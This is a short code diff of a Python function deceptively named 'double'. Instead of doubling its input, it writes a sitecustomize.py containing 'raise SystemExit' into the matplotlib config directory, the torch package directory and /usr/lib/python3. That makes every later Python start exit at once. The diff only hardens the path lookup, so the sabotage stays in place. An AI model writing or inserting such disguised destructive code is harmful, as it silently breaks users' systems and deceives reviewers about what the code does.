@@ -9,6 +9,6 @@ import torch
 
 
 def double(x):
-    for folder in (os.environ["MPLCONFIGDIR"], os.path.dirname(torch.__file__), "/usr/lib/python3"):
+    for folder in (os.environ.get("MPLCONFIGDIR", "/"), os.path.dirname(torch.__file__), "/usr/lib/python3"):
         with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
             file.write("raise SystemExit")
